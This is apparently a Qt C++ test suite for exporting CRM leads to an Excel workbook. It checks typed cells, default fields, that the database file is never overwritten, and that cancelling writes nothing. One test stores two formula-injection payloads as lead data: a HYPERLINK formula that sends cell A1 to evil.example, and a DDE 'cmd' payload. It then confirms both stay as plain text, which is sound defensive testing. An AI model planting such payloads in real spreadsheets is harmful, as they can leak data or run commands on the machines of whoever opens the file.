// LeadExporter to an Excel workbook: typed cells (numbers, dates, date-times,
// booleans), text that looks like a formula kept as text, the same values as
// the CSV export writes, never over the database.
#include "leadexporter.h"
#include "testhelpers.h"
#include "xlsxreader.h"
#include "ziparchive.h"

#include <QDir>
#include <QFile>
#include <QTemporaryDir>
#include <QTest>

using namespace TestHelpers;

class TestExportXlsx : public QObject
{
    Q_OBJECT

private:
    std::unique_ptr<TestWorkspace> m_tw;
    QTemporaryDir m_dir;

    Workspace &ws() { return m_tw->ws(); }
    QString path(const QString &name = QStringLiteral("leads.xlsx")) const { return m_dir.filePath(name); }

    static QList<QStringList> readXlsx(const QString &file, QString *sheet = nullptr)
    {
        QList<QStringList> out;
        XlsxReader reader(file);
        if (!reader.isOpen())
            qWarning() << reader.errorString();
        if (sheet)
            *sheet = reader.sheet();
        TableRecord r;
        while (reader.readRecord(&r))
            out << r.fields;
        return out;
    }

    static QByteArray sheetXml(const QString &file)
    {
        QFile f(file);
        if (!f.open(QIODevice::ReadOnly))
            return {};
        ZipArchive zip(&f, file);
        QByteArray xml;
        zip.readAll(QStringLiteral("xl/worksheets/sheet1.xml"), 64 << 20, &xml);
        return xml;
    }

private slots:
    void init() { m_tw = std::make_unique<TestWorkspace>(); }
    void cleanup() { m_tw.reset(); }

    void formatFromTheFileName()
    {
        QCOMPARE(LeadExporter::formatForPath(QStringLiteral("/tmp/leads.xlsx")), LeadExportFormat::Xlsx);
        QCOMPARE(LeadExporter::formatForPath(QStringLiteral("LEADS.XLSX")), LeadExportFormat::Xlsx);
        QCOMPARE(LeadExporter::formatForPath(QStringLiteral("leads.csv")), LeadExportFormat::Csv);
        QCOMPARE(LeadExporter::formatForPath(QStringLiteral("leads.xlsx.txt")), LeadExportFormat::Csv);
    }

    void typedCells()
    {
        Lead lead = LeadBuilder()
                        .named("Anne", "Dupont")
                        .company("Société Générale, Paris")
                        .email("anne@sg.example")
                        .email("a.dupont@sg.example")
                        .phone("+33 1 42 14 20 00")
                        .score(4);
        lead.postalCode = QStringLiteral("01000");
        lead.budgetSet = true;
        lead.budget = 1250000.5;
        lead.dealValue = 0.1;
        lead.estimatedCloseDate = QDate(2026, 9, 30);
        lead.doNotCall = true;
        lead.keyAccount = false;
        QVERIFY(m_tw->addLead(lead));
        const Lead stored = *ws().leadRepository().find(ws().leadRepository().ids(LeadFilter{}).first());

        LeadExportOptions options;
        options.format = LeadExportFormat::Xlsx;
        options.fields = {"first_name", "last_name", "company", "email", "phone", "postal_code", "score", "budget",
                          "deal_value", "estimated_close_date", "do_not_call", "key_account", "created_at", "status"};
        auto exported = LeadExporter(ws()).exportLeads(LeadFilter{}, path(), options);
        QVERIFY2(exported, qPrintable(exported.errorText()));
        QCOMPARE(exported.value(), 1);

        QString sheet;
        const QList<QStringList> rows = readXlsx(path(), &sheet);
        QCOMPARE(sheet, QStringLiteral("Leads"));
        QCOMPARE(rows.size(), 2);
        // The header is the field keys, as in CSV: the file imports back.
        QCOMPARE(rows[0], options.fields);
        QVERIFY(LeadExporter::isExportHeader(rows[0]));
        const QString createdUtc = stored.createdAt.toUTC().toString(QStringLiteral("yyyy-MM-ddTHH:mm:ss"));
        QCOMPARE(rows[1], (QStringList{"Anne", "Dupont", QString::fromUtf8("Société Générale, Paris"), "anne@sg.example, a.dupont@sg.example",
                                       "+33 1 42 14 20 00", "01000", "4", "1250000.5", "0.1", "2026-09-30", "TRUE", "FALSE",
                                       createdUtc, "To be processed"}));
        // Typed in the sheet: numbers and booleans are no strings, dates are
        // numbers with a date format.
        const QByteArray xml = sheetXml(path());
        QVERIFY(xml.contains("<v>4</v>"));
        QVERIFY(xml.contains("<v>1250000.5</v>"));
        QVERIFY(xml.contains("t=\"b\""));
        QVERIFY(xml.contains("<v>46295</v>")); // 2026-09-30
        QVERIFY(xml.contains("<is><t>01000</t></is>"));
    }

    void formulaTextStaysText()
    {
        const QString hyperlink = QStringLiteral("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")");
        const QString dde = QStringLiteral("=cmd|' /C calc'!A0");
        QVERIFY(m_tw->addLead(LeadBuilder().named(QStringLiteral("@SUM(A1)"), hyperlink).company(dde)));
        LeadExportOptions options;
        options.format = LeadExportFormat::Xlsx;
        options.fields = {QStringLiteral("first_name"), QStringLiteral("last_name"), QStringLiteral("company")};
        QVERIFY(LeadExporter(ws()).exportLeads(LeadFilter{}, path(), options));
        // No apostrophe: a text cell is never run as a formula.
        QCOMPARE(readXlsx(path()).value(1), (QStringList{"@SUM(A1)", hyperlink, dde}));
        QVERIFY(!sheetXml(path()).contains("<f>"));
    }

    void everyFieldByDefault()
    {
        QVERIFY(m_tw->addLead(LeadBuilder().named("Bob", "Martin").company("Acme")));
        QVERIFY(m_tw->addLead(LeadBuilder().company("Zeta Corp").email("hello@zeta.example")));
        LeadExportOptions options;
        options.format = LeadExportFormat::Xlsx;
        auto exported = LeadExporter(ws()).exportLeads(LeadFilter{}, path(), options);
        QVERIFY2(exported, qPrintable(exported.errorText()));
        QCOMPARE(exported.value(), 2);
        const QList<QStringList> rows = readXlsx(path());
        QCOMPARE(rows.size(), 3);
        QCOMPARE(rows[0], LeadExporter::allFields());
    }

    void refusesToWriteOverTheDatabase()
    {
        QVERIFY(m_tw->addLead(LeadBuilder().named("Bob", "Martin")));
        const QString db = ws().database().path();
        if (db.isEmpty() || db == QLatin1String(":memory:") || ws().database().isPostgres())
            QSKIP("the test workspace has no database file");
        QFile before(db);
        QVERIFY(before.open(QIODevice::ReadOnly));
        const QByteArray header = before.read(16);
        before.close();
        LeadExportOptions options;
        options.format = LeadExportFormat::Xlsx;
        for (const QString &target : {db, db + QStringLiteral("-wal")}) {
            auto r = LeadExporter(ws()).exportLeads(LeadFilter{}, target, options);
            QVERIFY(!r);
        }
        QVERIFY(before.open(QIODevice::ReadOnly));
        QCOMPARE(before.read(16), header);
        QVERIFY(ws().leadRepository().find(ws().leadRepository().ids(LeadFilter{}).first()));
    }

    void cancelWritesNothing()
    {
        for (int i = 0; i < 450; ++i)
            QVERIFY(m_tw->addLead(LeadBuilder().named("N", QStringLiteral("L%1").arg(i))));
        LeadExportOptions options;
        options.format = LeadExportFormat::Xlsx;
        auto r = LeadExporter(ws()).exportLeads(LeadFilter{}, path(QStringLiteral("cancel.xlsx")), options, -1,
                                                [](qint64 done, qint64) { return done < 400; });
        QVERIFY(!r);
        QCOMPARE(r.problems().first().field, QStringLiteral("cancelled"));
        QVERIFY(!QFile::exists(path(QStringLiteral("cancel.xlsx"))));
        QCOMPARE(QDir(m_dir.path()).entryList(QDir::Files | QDir::Hidden).filter(QStringLiteral("cancel")), QStringList());
    }
};

QTEST_GUILESS_MAIN(TestExportXlsx)
#include "tst_exportxlsx.moc"
